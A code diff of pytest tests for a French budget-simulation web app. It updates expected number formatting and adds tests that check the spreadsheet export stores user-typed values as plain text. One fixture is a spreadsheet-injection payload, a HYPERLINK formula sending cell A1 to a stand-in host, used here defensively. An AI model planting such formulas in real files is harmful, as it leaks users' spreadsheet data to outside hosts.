@@ -16,8 +16,8 @@ from support import assert_stale
 
 
 def euros(text: str) -> str:
-    """An amount as the pages write it: « 1 880 000,00 € » with non-breaking spaces."""
-    return text.replace(" ", "\xa0") + "&nbsp;€"
+    """An amount as the pages write it: « 1 880 000,00 € » with non-breaking spaces (and « − », the minus sign)."""
+    return text.replace(" ", "\xa0") + "\xa0€"
 
 
 @pytest.fixture
@@ -80,7 +80,7 @@ def test_a_scenario_typed_the_french_way_is_saved_and_simulated(client_for, budg
     body = response.content.decode()
     assert "Le scénario « Taux régional » est enregistré." in body
     # The MAS converges onto 47 000 × 40 places in N+2; the contract's reserves reach 116 554,99 in N+1 (see test_trajectory).
-    assert euros("1 880 000,00") in body and euros("-46 666,67") in body
+    assert euros("1 880 000,00") in body and euros("−46 666,67") in body
     assert euros("116 554,99") in body
     assert 'data-testid="money-chart"' in body and 'data-testid="reserves-chart"' in body
     assert body.count("<polyline") == 2 and body.count("<rect") == 5
@@ -88,9 +88,9 @@ def test_a_scenario_typed_the_french_way_is_saved_and_simulated(client_for, budg
 
 
 @pytest.mark.parametrize("typed, message", [
-    ("12", "Un taux d&#x27;évolution est compris entre -10 % et +10 % : 12 % est hors limites."),
-    ("-10,5", "Un taux d&#x27;évolution est compris entre -10 % et +10 % : -10,5 % est hors limites."),
-    ("un peu", "« un peu » n&#x27;est pas un taux : écrivez par exemple 1,2 ou -0,5."),
+    ("12", "Un taux d&#x27;évolution est compris entre −10\xa0% et +10\xa0% : 12\xa0% est hors limites."),
+    ("-10,5", "Un taux d&#x27;évolution est compris entre −10\xa0% et +10\xa0% : −10,5\xa0% est hors limites."),
+    ("un peu", "Taux des dépenses N+2 : « un peu » n&#x27;est pas un taux : écrivez par exemple 1,2 ou −0,5."),
 ])
 def test_a_bad_rate_says_why_in_french_and_saves_nothing(client_for, budget, typed, message):
     response = client_for("asso").post(f"{_base(budget.contract)}nouveau/", _post(expense_rate_2=typed))
@@ -109,8 +109,8 @@ def test_an_authority_edits_and_the_change_is_audited(client_for, worked):
     assert worked.envelope_rates["0"] == "1.2"
     entry = AuditEntry.objects.get(object_type="finance.scenario", object_id=str(worked.pk), action="Scénario modifié")
     assert entry.organisation_label == "Conseil départemental de Loire-Atlantique"
-    assert entry.before["Taux de l'enveloppe"] == "N : 1 % ; N+1 : 0 % ; N+3 : 0,5 %"
-    assert entry.after["Taux de l'enveloppe"] == "N : 1,2 % ; N+1 : 0 % ; N+3 : 0,5 %"
+    assert entry.before["Taux de l'enveloppe"] == "N : 1\xa0% ; N+1 : 0\xa0% ; N+3 : 0,5\xa0%"
+    assert entry.after["Taux de l'enveloppe"] == "N : 1,2\xa0% ; N+1 : 0\xa0% ; N+3 : 0,5\xa0%"
 
 
 def test_an_edit_over_someone_elses_change_is_refused(client_for, worked):
@@ -327,3 +327,37 @@ def test_budget_objectives_diagnostic_and_scenarios_are_open_in_the_same_states(
         }
         assert len(set(open_for.values())) == 1, (state, open_for)
         assert open_for["budget"] == association_contract.is_open, state
+
+
+def _formulas(workbook) -> list[str]:
+    return [f"{sheet.title}!{cell.coordinate}" for sheet in workbook for row in sheet.iter_rows() for cell in row
+            if cell.data_type == "f"]
+
+
+HYPERLINK = '=HYPERLINK("http://exemple.fr/?"&A1,"Cliquez ici")'
+
+
+def test_what_people_typed_is_written_as_text_never_as_a_formula(client_for, worked):
+    contract = worked.budget.contract
+    Scenario.objects.filter(pk=worked.pk).update(name=HYPERLINK)
+    type(contract).objects.filter(pk=contract.pk).update(reference="=2+3")
+    mas = contract.establishments.get(category="MAS")
+    type(mas).objects.filter(pk=mas.pk).update(name="+33 MAS Les Hauts")
+    response = client_for("asso").get(f"{_base(contract)}trajectoire.xlsx")
+    workbook = load_workbook(BytesIO(response.content))
+    assert _formulas(workbook) == []
+    comparison = workbook["Comparaison"]
+    assert (comparison["C1"].value, comparison["C1"].data_type, comparison["C1"].quotePrefix) == (HYPERLINK, "s", True)
+    footer = next(c for row in comparison.iter_rows() for c in row if str(c.value).startswith("=2+3"))
+    assert footer.value == "=2+3 – Association Les Chemins de Loire" and footer.data_type == "s"
+    sheet = workbook[workbook.sheetnames[1]]
+    names = {r[0].value for r in sheet.iter_rows(min_row=2) if r[0].data_type == "s"}
+    assert "+33 MAS Les Hauts" in names
+
+
+def test_a_scenario_name_with_a_backspace_still_exports(client_for, worked):
+    Scenario.objects.filter(pk=worked.pk).update(name="Taux\x08 régional")
+    response = client_for("asso").get(f"{_base(worked.budget.contract)}trajectoire.xlsx")
+    workbook = load_workbook(BytesIO(response.content))
+    assert workbook.sheetnames == ["Comparaison", "Taux régional"]
+    assert workbook["Comparaison"]["C1"].value == "Taux régional"
